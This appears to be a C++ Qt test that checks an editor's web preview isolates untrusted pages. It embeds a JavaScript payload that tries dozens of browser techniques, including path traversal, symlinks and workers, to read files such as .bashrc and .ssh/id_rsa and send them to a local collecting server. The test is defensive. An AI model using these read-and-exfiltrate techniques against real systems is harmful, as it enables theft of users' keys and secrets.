// A stranger's page in the preview tries every way the engine offers to read
// the user's files (outside its folder, hidden beside it, behind links) and
// to send what it got to a web server the test runs. Nothing may arrive; the
// page's own files and web resources still load.
#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QUrlQuery>

#include "editor/web_browser.h"
#include "engine/external_opener.h"
#include "engine/page_scheme.h"
#include "support/test_files.h"
#include "support/test_main.h"

namespace {

// A web server on 127.0.0.1: stands for a CDN (styles, images) and for the
// attacker's collecting server (every request is kept).
class WebServer final : public QObject {
  Q_OBJECT
 public:
  WebServer() {
    server_.listen(QHostAddress::LocalHost);
    connect(&server_, &QTcpServer::newConnection, this, [this] {
      while (QTcpSocket* socket = server_.nextPendingConnection()) {
        connect(socket, &QTcpSocket::readyRead, this, [this, socket] { answer(socket); });
        connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
      }
    });
  }
  quint16 port() const { return server_.serverPort(); }
  QList<QUrl> requests;

 signals:
  void received(const QUrl& url);

 private:
  void answer(QTcpSocket* socket) {
    QByteArray& buffer = pending_[socket];
    buffer += socket->readAll();
    if (!buffer.contains("\r\n\r\n")) return;
    const QByteArray target = buffer.split(' ').value(1);
    pending_.remove(socket);
    const QUrl url(QStringLiteral("http://127.0.0.1") + QString::fromLatin1(target));
    QByteArray type = "text/plain", body;
    if (url.path() == u"/cdn.css") {
      type = "text/css";
      body = "body { color: rgb(1, 2, 3); }";
    } else if (url.path() == u"/cdn.svg") {
      type = "image/svg+xml";
      body = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='4'></svg>";
    }
    socket->write("HTTP/1.1 200 OK\r\nContent-Type: " + type +
                  "\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\nContent-Length: " +
                  QByteArray::number(body.size()) + "\r\n\r\n" + body);
    socket->disconnectFromHost();
    requests << url;
    emit received(url);
  }

  QTcpServer server_;
  QHash<QTcpSocket*, QByteArray> pending_;
};

// The same set of secrets in every place the page must not reach, one file
// for each way of reading.
void writeSecrets(const QString& folder) {
  QDir().mkpath(folder);
  const auto put = [&](const char* name, const QByteArray& bytes) {
    testfiles::write(QDir(folder).filePath(QString::fromLatin1(name)), bytes);
  };
  put("secret.txt", "SECRET_TXT data: SECRET_EVENT\n\n");
  put("secret.js",
      "if (typeof importScripts === 'function') { postMessage('SECRET_WORKER');"
      " onconnect = function (e) { e.ports[0].postMessage('SECRET_SHARED'); }; }"
      " else { window.leaked = 'SECRET_SCRIPT'; }");
  put("secret.mjs",
      "export const leaked = 'SECRET_MODULE';"
      " if (typeof WorkerGlobalScope !== 'undefined') self.postMessage('SECRET_MODULE_WORKER');");
  put("secret.json", "{\"leaked\": \"SECRET_JSON\"}");
  put("secret.css", ".leak::after { content: 'SECRET_CSS'; }");
  put("secret.svg",
      "<svg xmlns='http://www.w3.org/2000/svg' width='5' height='5'><rect "
      "width='5' height='5' fill='red'/></svg>");
  put("secret.vtt", "WEBVTT\n\n00:00.000 --> 00:09.000\nSECRET_VTT\n");
}

// Tries each way on each place; reports to the server only what it read
// that holds a secret, its own files as "own", and "done" at the end.
const char* const kAttack = R"JS(
const SERVER = 'http://127.0.0.1:' + PORT;
function send(kind, what, data) {
  return fetch(SERVER + '/' + kind + '?what=' + encodeURIComponent(what) + '&data=' +
      encodeURIComponent(String(data).slice(0, 300)), { mode: 'no-cors' }).catch(() => {});
}
function leak(what, data) {
  if (data !== undefined && data !== null && String(data).indexOf('SECRET') >= 0)
    return send('leak', what, data);
}
const wait = ms => new Promise(r => setTimeout(r, ms));
const abs = u => new URL(u, location.href).href;
function element(tag, props, parent) {
  const e = document.createElement(tag);
  Object.assign(e, props);
  (parent || document.body).appendChild(e);
  return e;
}
const loaded = e => new Promise((res, rej) => { e.onload = () => res(e); e.onerror = rej; });
const text = doc => doc && doc.documentElement ? doc.documentElement.textContent : '';
addEventListener('error', e => leak('error event', e.message), true);

const ways = {
  fetch: u => fetch(u).then(r => r.text()),
  'fetch cors': u => fetch(u, { mode: 'cors' }).then(r => r.text()),
  xhr: u => new Promise((res, rej) => {
    const x = new XMLHttpRequest(); x.onload = () => res(x.responseText); x.onerror = rej;
    x.open('GET', u); x.send(); }),
  'sync xhr': u => { const x = new XMLHttpRequest(); x.open('GET', u, false); x.send();
    return x.responseText; },
  'script error text': u => new Promise(res => {
    const old = window.onerror;
    window.onerror = m => { res(m); return true; };
    loaded(element('script', { src: u })).then(() => res(window.leaked), () => res(''))
        .finally(() => setTimeout(() => { window.onerror = old; }, 0)); }),
  iframe: u => loaded(element('iframe', { src: u })).then(f => text(f.contentDocument)),
  'frame navigated': u => loaded(element('iframe', { src: 'about:blank' })).then(f => {
    const again = loaded(f); f.contentWindow.location = abs(u); return again; })
    .then(f => text(f.contentDocument)),
  object: u => loaded(element('object', { data: u, type: 'text/plain' }))
    .then(o => text(o.contentDocument)),
  embed: u => loaded(element('embed', { src: u })).then(e => text(e.getSVGDocument())),
  'event source': u => new Promise((res, rej) => {
    const s = new EventSource(u); s.onmessage = e => { s.close(); res(e.data); };
    s.onerror = () => { s.close(); rej(); }; }),
  websocket: u => new Promise((res, rej) => {
    const s = new WebSocket(abs(u).replace(/^[a-z-]+:/, 'ws:'));
    s.onmessage = e => { s.close(); res(e.data); }; s.onerror = rej; }),
  'worker reading': u => new Promise((res, rej) => {
    const code = 'const u = ' + JSON.stringify(abs(u)) + ';' +
      'fetch(u).then(r => r.text()).then(t => postMessage(t), () => {});' +
      'try { const x = new XMLHttpRequest(); x.open("GET", u, false); x.send();' +
      ' postMessage(x.responseText); } catch (e) {}' +
      'try { importScripts(u); } catch (e) { postMessage(String(e)); }';
    const w = new Worker(URL.createObjectURL(new Blob([code])));
    w.onmessage = e => leak('worker reading: ' + u, e.data); w.onerror = rej;
    setTimeout(() => res(''), 3000); }),
};
for (const as of ['fetch', 'script', 'style', 'image', 'font', 'document', 'track', 'audio',
                  'video', 'worker', 'object', 'embed'])
  ways['preload as ' + as + ' then fetch'] = u => {
    const l = element('link', { rel: 'preload', as: as, href: u, crossOrigin: 'anonymous' },
                      document.head);
    return new Promise(r => { l.onload = l.onerror = r; setTimeout(r, 2000); })
        .then(() => fetch(u, { mode: 'cors' })).then(r => r.text());
  };

// Ways that need a file of their own kind, by its name in each place.
const typed = {
  'secret.js': {
    script: u => loaded(element('script', { src: u })).then(() => window.leaked),
    worker: u => new Promise((res, rej) => { const w = new Worker(u);
      w.onmessage = e => res(e.data); w.onerror = rej; }),
    'shared worker': u => new Promise((res, rej) => { const w = new SharedWorker(u);
      w.port.onmessage = e => res(e.data); w.onerror = rej; w.port.start(); }),
    'service worker': u => navigator.serviceWorker ? navigator.serviceWorker.register(u)
        .then(() => 'SECRET_SERVICE_WORKER') : Promise.reject(),
  },
  'secret.mjs': {
    'module import': u => import(abs(u)).then(m => m.leaked),
    'module script': u => { const s = element('script', { type: 'module' });
      const slot = 'leak' + Math.random().toString(36).slice(2);
      s.textContent = 'import { leaked } from ' + JSON.stringify(abs(u)) +
          '; window.' + slot + ' = leaked;';
      return wait(1500).then(() => window[slot]); },
    'module worker': u => new Promise((res, rej) => {
      const w = new Worker(u, { type: 'module' }); w.onmessage = e => res(e.data);
      w.onerror = rej; }),
  },
  'secret.json': {
    'json import': u => import(abs(u), { assert: { type: 'json' } })
        .then(m => JSON.stringify(m.default)),
  },
  'secret.css': {
    'style sheet rules': u => loaded(element('link', { rel: 'stylesheet', href: u }, document.head))
        .then(l => Array.from(l.sheet.cssRules).map(r => r.cssText).join()),
    'css import rules': u => { const s = element('style', {}, document.head);
      s.textContent = '@import url(' + JSON.stringify(u) + ');';
      return wait(1500).then(() => Array.from(s.sheet.cssRules[0].styleSheet.cssRules)
          .map(r => r.cssText).join()); },
  },
  'secret.svg': {
    'image on a canvas': u => loaded(element('img', { src: u })).then(i => {
      const c = element('canvas', { width: 5, height: 5 }); const g = c.getContext('2d');
      g.drawImage(i, 0, 0); return 'SECRET_PIXELS ' + g.getImageData(2, 2, 1, 1).data.join(); }),
    'image in a frame': u => loaded(element('iframe', { src: u }))
        .then(f => f.contentDocument.documentElement.outerHTML),
  },
  'secret.vtt': {
    'video track': u => new Promise((res, rej) => {
      const v = element('video', { muted: true });
      const t = element('track', { src: u, kind: 'subtitles', default: true }, v);
      t.onload = () => res(Array.from(t.track.cues).map(c => c.text).join());
      t.onerror = rej; }),
  },
  'secret.txt': {
    video: u => loaded(element('video', { src: u })).then(() => 'SECRET_VIDEO'),
  },
};

function attempt(what, run) {
  return Promise.race([
    Promise.resolve().then(run).then(data => leak(what, data), () => {}),
    wait(6000)]);
}

// The page's own files: shown and run, never read.
const ownSheet = loaded(element('link', { rel: 'stylesheet', href: 'own.css' }, document.head));
const ownImage = loaded(element('img', { src: 'own.svg' }));
const ownModule = import('./own.mjs');
const own = [
  ['xhr', ways.xhr('own.txt')],
  ['fetch', ways.fetch('own.txt')],
  ['event source', ways['event source']('own.txt')],
  ['module', ownModule.then(m => m.own)],
  ['script', loaded(element('script', { src: 'own.js' })).then(() => window.ownScript)],
  ['json', import('./own.json', { assert: { type: 'json' } }).then(m => m.default.own)],
  ['css rules', ownSheet.then(l => l.sheet.cssRules[0].cssText)],
  ['css applied', ownSheet.then(() => 'OWN ' +
      getComputedStyle(element('p', { className: 'own' }), '::after').content)],
  ['image shown', ownImage.then(i => 'OWN ' + i.naturalWidth)],
  ['image pixels', ownImage.then(i => {
      const c = element('canvas', { width: 5, height: 5 }); const g = c.getContext('2d');
      g.drawImage(i, 0, 0); return 'OWN ' + g.getImageData(2, 2, 1, 1).data.join(); })],
  ['framed', new Promise((res, rej) => {
      addEventListener('message', e => { if (e.data === 'framed done') res('OWN ran'); });
      setTimeout(rej, 20000); element('iframe', { src: 'framed.html' }); })],
  ['cdn style', wait(0).then(() => document.readyState === 'complete' ? 0 : loaded(window))
      .then(() => 'OWN ' + getComputedStyle(document.body).color)],
  ['cdn image', Promise.resolve(document.getElementById('cdn')).then(i =>
      i.complete ? i : loaded(i)).then(i => 'OWN ' + i.naturalWidth)],
].map(([what, read]) => read.then(data => send('own', what, data), e => send('own-failed', what, e)));

// Inside the page's folder a script file is the page's own to run, as any
// browser runs it: only the ways that read are tried there.
const runs = ['script', 'module import', 'module script'];

// Each attempt asks with a query of its own: a preloaded answer is handed
// out once, and one attempt must not use up another's.
const attempts = [];
const add = (way, target, run) => {
  const u = target + '?' + attempts.length;
  attempts.push(attempt(way + ': ' + target, () => run(u)));
};
// Where the page's files really come from is no secret to its modules: the
// folder's file host is attacked by name too.
const addAll = places => {
  for (const place of places) {
    const inside = INSIDE.includes(place);
    for (const name in typed)
      for (const way in typed[name])
        if (!inside || !runs.includes(way)) add(way, place + name, typed[name][way]);
    for (const way in ways) add(way, place + 'secret.txt', ways[way]);
  }
};
const fileHost = ownModule.then(m => new URL('./', m.base).href, () => '');
const allAdded = fileHost.then(base => {
  addAll(PLACES);
  for (const file of FILES)
    for (const way in ways) add(way, file, ways[way]);
  if (base) {
    INSIDE.push(base, base + 'letters/');
    addAll([base, base + 'letters/']);
    for (const way in ways) add(way, base + 'link.txt', ways[way]);
  }
});
// Preloads in the markup itself, read once the document has loaded.
const whole = document.readyState === 'complete' ? Promise.resolve() : loaded(window);
for (const l of document.querySelectorAll('link[rel=preload]'))
  for (const mode of ['cors', 'same-origin', 'no-cors'])
    attempts.push(attempt('markup preload then fetch ' + mode + ': ' + l.getAttribute('href'),
        () => whole.then(() => fetch(l.href, { mode: mode })).then(r => r.text())));
allAdded.then(() => Promise.all(own.concat(attempts)))
    .then(() => send('done', attempts.length + (INSIDE.length > 2 ? ' file host' : ''), ''));
)JS";

// A document of the page's folder shown in a frame tries the reads again from
// where it is served: the folder's file host, which must not make it one
// origin with the files. PORT is the collecting server's.
const char* const kFramed = R"JS(<!DOCTYPE html><p>Framed</p><script>
const leak = (what, data) => String(data).indexOf('SECRET') < 0 ? 0 :
  fetch('http://127.0.0.1:PORT/leak?what=' + encodeURIComponent('framed ' + what) + '&data=' +
        encodeURIComponent(String(data).slice(0, 300)), { mode: 'no-cors' }).catch(() => {});
const settle = (run, ok) => new Promise((res, rej) => run(v => { try { res(ok(v)); }
  catch (e) { rej(e); } }, rej));
const tries = {
  fetch: () => fetch('secret.txt').then(r => r.text()),
  xhr: () => settle((res, rej) => { const x = new XMLHttpRequest(); x.onload = () => res(x);
    x.onerror = rej; x.open('GET', 'letters/secret.txt'); x.send(); }, x => x.responseText),
  json: () => import('./secret.json', { assert: { type: 'json' } })
    .then(m => JSON.stringify(m.default)),
  'css rules': () => settle((res, rej) => { const l = document.createElement('link');
    l.rel = 'stylesheet'; l.href = 'secret.css'; l.onload = () => res(l); l.onerror = rej;
    document.head.appendChild(l); }, l => Array.from(l.sheet.cssRules).map(r => r.cssText).join()),
  canvas: () => settle((res, rej) => { const i = new Image(); i.onload = () => res(i);
    i.onerror = rej; i.src = 'secret.svg'; }, i => { const c = document.createElement('canvas');
    c.width = c.height = 5; const g = c.getContext('2d'); g.drawImage(i, 0, 0);
    return 'SECRET_PIXELS ' + g.getImageData(2, 2, 1, 1).data.join(); }),
  'frame of a file': () => settle((res, rej) => { const f = document.createElement('iframe');
    f.onload = () => res(f); f.src = 'secret.txt'; document.body.appendChild(f); },
    f => f.contentDocument.documentElement.textContent),
  'the page': () => parent.document.documentElement.outerHTML,
};
Promise.all(Object.entries(tries).map(([what, run]) => Promise.race([
  Promise.resolve().then(run).then(d => leak(what, d), () => {}),
  new Promise(r => setTimeout(r, 5000))]))).then(() => parent.postMessage('framed done', '*'));
</script>)JS";

QString jsonList(const QStringList& items) {
  return QString::fromUtf8(
      QJsonDocument(QJsonArray::fromStringList(items)).toJson(QJsonDocument::Compact));
}

}  // namespace

class PreviewIsolationTest final : public QObject {
  Q_OBJECT
 private slots:
  void init() {
    externalopener::setOpener([](const QUrl&) {});
  }

  // The page lives in a home-like folder beside hidden files, a hidden
  // folder and links out; the user's other files are in a folder beside it,
  // which also holds a page of the user's, so its folder is being served too.
  void aStrangersPageReadsNothingOfTheUsers() {
    QTemporaryDir root;
    const QString home = root.filePath("home");
    const QString outside = root.filePath("outside");
    writeSecrets(outside);
    writeSecrets(QDir(home).filePath(".hidden"));
    // The user's own files beside the page and below it, visible and regular:
    // a pack unzipped onto the Desktop.
    writeSecrets(home);
    writeSecrets(QDir(home).filePath("letters"));
    testfiles::write(QDir(outside).filePath("users page.htm"), "<p>another page</p>");
    testfiles::write(QDir(home).filePath(".bashrc"), "export TOKEN=SECRET_BASHRC\n");
    QDir(home).mkpath(".ssh");
    testfiles::write(QDir(home).filePath(".ssh/id_rsa"), "SECRET_SSH_KEY\n");
    QVERIFY(QFile::link(QDir(outside).filePath("secret.txt"), QDir(home).filePath("link.txt")));
    QVERIFY(QFile::link(QDir(home).filePath(".bashrc"), QDir(home).filePath("bashrc.txt")));
    QVERIFY(QFile::link(outside, QDir(home).filePath("linked")));
    testfiles::write(QDir(home).filePath("own.txt"), "OWN text");
    testfiles::write(QDir(home).filePath("own.mjs"),
                     "export const own = 'OWN module'; export const base = import.meta.url;");
    testfiles::write(QDir(home).filePath("own.js"), "window.ownScript = 'OWN script';");
    testfiles::write(QDir(home).filePath("own.json"), "{\"own\": \"OWN json\"}");
    testfiles::write(QDir(home).filePath("own.css"), ".own::after { content: 'OWN css'; }");
    testfiles::write(QDir(home).filePath("own.svg"),
                     "<svg xmlns='http://www.w3.org/2000/svg' width='5' height='5'><rect "
                     "width='5' height='5' fill='lime'/></svg>");

    WebServer server;
    QVERIFY(server.port() != 0);
    testfiles::write(QDir(home).filePath("framed.html"),
                     QByteArray(kFramed).replace("PORT", QByteArray::number(server.port())));
    const QString outsideFile = QUrl::fromLocalFile(outside).toString() + u'/';
    const QString otherFolder =
        pagescheme::urlOf(QDir(outside).filePath("users page.htm")).resolved(QUrl("./")).toString();
    const QStringList inside = {QString(), QStringLiteral("letters/")};
    const QStringList places =
        QStringList(inside) +
        QStringList{outsideFile,
                    QStringLiteral("../outside/"),
                    QStringLiteral("%2e%2e/outside/"),
                    QStringLiteral("linked/"),
                    QStringLiteral(".hidden/"),
                    otherFolder,
                    QUrl::fromLocalFile(home).toString() + QStringLiteral("/.hidden/")};
    const QStringList files = {QStringLiteral(".bashrc"),
                               QStringLiteral(".ssh/id_rsa"),
                               QStringLiteral("link.txt"),
                               QStringLiteral("bashrc.txt"),
                               QStringLiteral("%2essh/id_rsa"),
                               QUrl::fromLocalFile(QDir(home).filePath(".bashrc")).toString()};
    QString preloads;
    const QStringList preloaded = QStringList(files)
                                  << places.first() + "secret.txt" << places[1] + "secret.txt";
    for (const QString& target : preloaded)
      preloads +=
          QStringLiteral("<link rel='preload' as='fetch' crossorigin href='%1'>").arg(target);
    const QString page = QDir(home).filePath("offer.htm");
    testfiles::write(
        page, QStringLiteral("<!DOCTYPE html><html><head><meta charset='utf-8'>"
                             "<link rel='stylesheet' href='http://127.0.0.1:%1/cdn.css'>%5</head>"
                             "<body><p>Offer</p><img id='cdn' src='http://127.0.0.1:%1/cdn.svg'>"
                             "<script>const PORT = %1; const PLACES = %2; const FILES = %3;"
                             " const INSIDE = %6;\n%4"
                             "</script></body></html>")
                  .arg(server.port())
                  .arg(jsonList(places), jsonList(files), QString::fromLatin1(kAttack), preloads,
                       jsonList(inside))
                  .toUtf8());

    WebBrowser browser;
    browser.setSilent(true);
    browser.resize(600, 400);
    browser.show();
    QSignalSpy received(&server, &WebServer::received);
    browser.Navigate2(page);
    const auto done = [&] {
      for (const QUrl& url : server.requests)
        if (url.path() == u"/done") return true;
      return false;
    };
    while (!done()) QVERIFY2(received.wait(120000), "the page never finished its attempts");

    QStringList leaks, own, refused;
    for (const QUrl& url : server.requests) {
      const QUrlQuery query(url);
      const QString what = query.queryItemValue("what", QUrl::FullyDecoded);
      const QString data = query.queryItemValue("data", QUrl::FullyDecoded);
      if (QUrl::fromPercentEncoding(url.toEncoded()).contains(u"SECRET"))
        leaks << what + QStringLiteral(" -> ") + data;
      if (url.path() == u"/own") own << what + u'=' + data;
      if (url.path() == u"/own-failed") refused << what;
    }
    for (const QString& leak : leaks) qWarning().noquote() << "reached the server:" << leak;
    QVERIFY2(leaks.isEmpty(),
             qPrintable(QStringLiteral("%1 secrets reached the server").arg(leaks.size())));
    const QString made = QUrlQuery(server.requests.last()).queryItemValue("what");
    qInfo() << "attempts made:" << made;
    QVERIFY2(made.endsWith(u"file host"), "the folder's file host was not attacked by name");
    // The way out was open all along, and the page's own files and the web
    // resources it names were there for it to show and run; no read of its
    // own files' contents worked either.
    own.sort();
    QCOMPARE(own, (QStringList{"cdn image=OWN 9", "cdn style=OWN rgb(1, 2, 3)",
                               "css applied=OWN \"OWN css\"", "framed=OWN ran", "image shown=OWN 5",
                               "module=OWN module", "script=OWN script"}));
    refused.sort();
    QCOMPARE(refused,
             (QStringList{"css rules", "event source", "fetch", "image pixels", "json", "xhr"}));
  }
};

QV_TEST_MAIN(PreviewIsolationTest)
#include "preview_isolation_test.moc"
